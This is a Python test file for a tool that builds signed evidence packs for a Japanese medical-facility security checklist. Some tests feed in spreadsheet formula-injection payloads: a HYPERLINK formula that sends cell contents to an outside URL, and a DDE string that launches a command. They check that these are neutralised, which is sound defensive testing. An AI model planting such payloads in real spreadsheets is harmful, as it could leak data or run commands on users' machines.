"""Form, reasons and evidence in one sealed pack: the same ledger and day give the same bytes."""

import csv
import zipfile
from datetime import date, timedelta
from io import BytesIO, StringIO

import pytest

from tenken.actions.answer import answer
from tenken.actions.hand_over import PackError, hand_over
from tenken.actions.import_form import import_vendor_form
from tenken.actions.site import Site
from tenken.answers.model import Proposed
from tenken.config import Config, Facility
from tenken.forms.workbook import Entry, Filled, Mark, fill, read
from tenken.ledger.logbook import lately
from tenken.pack.model import Masking
from tenken.pack.seal import verify
from tests import samples
from tests.actions.steps import R7_VENDOR, contract
from tests.build import NOW, TODAY
from tests.forms.workbooks import R7, members, opened
from tests.ledger.steps import bcp, seen, stated

FORM = "01_様式/医療機関確認用.xlsx"
LATER = NOW + timedelta(hours=1)
FORMULA = '=HYPERLINK("http://example.jp/?"&A1,"様式")'


def filled(site: Site) -> None:
    """A server, a plan, a machine that somebody confirmed, three answers."""
    seen(site, samples.machine("ehr-srv01", 1))
    bcp(site)
    contract(site)
    answer(site, "r7", "hospital", "3-3", Proposed(True, "佐藤", TODAY), LATER)
    answer(site, "r7", "hospital", "2-6", Proposed(False, "山田", TODAY, date(2026, 3, 1)), LATER)


def pack(site: Site, form: str = "hospital", masking: Masking = Masking.NOTHING, day: date = TODAY) -> bytes:
    return hand_over(site, "r7", form, day, LATER, masking)


def texts(data: bytes) -> str:
    """All that stands in a pack but in PDFs, names of files included; workbooks unpacked."""
    parts = members(data)
    sheets = [members(content) for name, content in parts.items() if name.endswith(".xlsx")]
    plain = {name: content for name, content in parts.items() if not name.endswith((".pdf", ".xlsx"))}
    bodies = [*plain.values(), *(body for sheet in sheets for body in sheet.values())]
    return "\n".join([*parts, *(body.decode("utf-8", "replace") for body in bodies)])


def test_the_same_ledger_and_day_give_the_same_bytes(site: Site) -> None:
    filled(site)
    assert pack(site) == hand_over(site, "r7", "hospital", TODAY, LATER + timedelta(days=7))


def test_a_pack_of_an_empty_ledger_is_whole(site: Site) -> None:
    assert verify(pack(site)).whole


def test_a_pack_is_whole_and_signed_with_the_facilitys_key(site: Site) -> None:
    filled(site)
    checked = verify(pack(site))
    assert (checked.faults, checked.key) == ((), verify(pack(site, "pharmacy")).key)


def test_what_is_in_it(site: Site) -> None:
    filled(site)
    assert [name for name in members(pack(site)) if not name.startswith("03_証跡/E")] == [
        "00_目次と確かめ方.pdf",
        FORM,
        "01_様式/医療機関確認用.pdf",
        "02_判定と理由/判定と理由.pdf",
        "02_判定と理由/所見一覧.csv",
        "03_証跡/証跡一覧.csv",
        "manifest.json",
        "manifest.sig",
        "manifest.pub",
    ]


def test_the_form_in_it_is_the_official_one_with_the_answers(site: Site) -> None:
    filled(site)
    paper = read(R7, members(pack(site))[FORM])
    assert paper == Filled(
        {"医療機関名": "みどり野総合病院", "記入日(確認日)": "令和7年11月20日", "記入者/担当者": "山田"},
        {"2-6": Entry(Mark(False, TODAY), date(2026, 3, 1)), "3-3": Entry(Mark(True, TODAY))},
    )


def test_the_original_papers_are_in_it_word_for_word(site: Site) -> None:
    filled(site)
    originals = [content for name, content in members(pack(site)).items() if name.endswith("証跡.pdf")]
    assert originals == [b"%PDF-1.7 plan"]


def test_as_of_a_day_before_nothing_was_known(site: Site) -> None:
    filled(site)
    earlier = members(pack(site, day=TODAY - timedelta(days=1)))
    assert read(R7, earlier[FORM]).entries == {}


@pytest.mark.parametrize("day", [TODAY + timedelta(days=1), date(1979, 12, 31)])
def test_as_of_a_day_that_no_pack_can_be_of_is_refused(site: Site, day: date) -> None:
    with pytest.raises(PackError, match=day.isoformat()):
        pack(site, day=day)


def test_a_text_like_a_formula_is_a_text_in_the_form(site: Site) -> None:
    poisoned = Site(Config(site.config.data, Facility(FORMULA)), site.archive, site.keys)
    bcp(poisoned)
    answer(poisoned, "r7", "hospital", "3-3", Proposed(True, "=1+1", TODAY, reason="@SUM(A1)"), LATER)
    sheet = opened(members(pack(poisoned))[FORM])["医療機関確認用"]
    cells = [sheet[R7.cells.heads[head]] for head in ("医療機関名", "記入者/担当者")]
    assert [(cell.value, cell.data_type) for cell in cells] == [(FORMULA, "s"), ("=1+1", "s")]


def test_no_cell_of_the_tables_begins_a_formula(site: Site) -> None:
    stated(site, "ledger-entry", "machine:pc1", NOW, b"", machine_class="client_pc", title="=cmd|' /C calc'!A0")
    tables = [body.decode("utf-8-sig") for name, body in members(pack(site)).items() if name.endswith(".csv")]
    cells = [cell for table in tables for row in csv.reader(StringIO(table)) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "-"))] == []


def test_every_finding_is_a_line_of_the_table(site: Site) -> None:
    filled(site)
    table = members(pack(site))["02_判定と理由/所見一覧.csv"].decode("utf-8-sig")
    lines = {(line["行"], line["対象"], line["判定"]) for line in csv.DictReader(StringIO(table))}
    assert {("3-③", "施設全体", "適合"), ("2-⑤", "ehr-srv01", "不適合")} <= lines


@pytest.mark.parametrize(
    ("masking", "hidden"),
    [
        (Masking.ADDRESSES, ("10.20.0.1", "00:16:3e:00:00:01")),
        (Masking.HOSTS, ("10.20.0.1", "00:16:3e:00:00:01", "ehr-srv01")),
        (Masking.ACCOUNTS, ("10.20.0.1", "00:16:3e:00:00:01", "ehr-srv01", "old-vendor")),
    ],
)
def test_what_is_masked_stands_nowhere(site: Site, masking: Masking, hidden: tuple[str, ...]) -> None:
    filled(site)
    masked, plain = texts(pack(site, masking=masking)), texts(pack(site))
    assert [word for word in hidden if word in masked or word not in plain] == []


def test_papers_stay_out_of_a_masked_pack_and_are_listed_with_their_digest(site: Site) -> None:
    filled(site)
    parts = members(pack(site, masking=Masking.ADDRESSES))
    listed = parts["03_証跡/証跡一覧.csv"].decode("utf-8-sig")
    assert ([name for name in parts if name.endswith("証跡.pdf")], "証跡.pdf" in listed) == ([], True)


def test_a_vendor_form_is_one_paper_for_each_vendor(site: Site) -> None:
    contract(site)
    contract(site, "vendor:東亜医療")
    answers = {"1-1": Entry(Mark(True, date(2025, 11, 10))), "2-2": Entry(None, None, Mark(False, date(2025, 11, 11)))}
    import_vendor_form(site, fill(R7_VENDOR, answers, {"事業者名": "北斗システム"}), NOW)
    papers = {name: content for name, content in members(pack(site, "vendor")).items() if name.endswith(".xlsx")}
    ours = {name: read(R7_VENDOR, content).entries for name, content in papers.items() if name.startswith("01")}
    assert ours == {"01_様式/事業者確認用_北斗システム.xlsx": answers, "01_様式/事業者確認用_東亜医療.xlsx": {}}


def test_an_original_that_was_lost_does_not_stop_the_pack(site: Site) -> None:
    filled(site)
    for path in (site.config.data / "archive").rglob("*.gz"):
        path.unlink()
    assert verify(pack(site)).whole


def test_who_made_it_stands_in_the_logbook(site: Site) -> None:
    hand_over(site, "r7", "hospital", TODAY, NOW, Masking.HOSTS, by="佐藤")
    done = lately()[0]
    assert (done.by, done.verb, done.about, done.detail) == ("佐藤", "pack", "r7 hospital", "2025-11-20 HOSTS")


def test_any_program_can_open_it(site: Site) -> None:
    filled(site)
    assert zipfile.ZipFile(BytesIO(pack(site))).testzip() is None
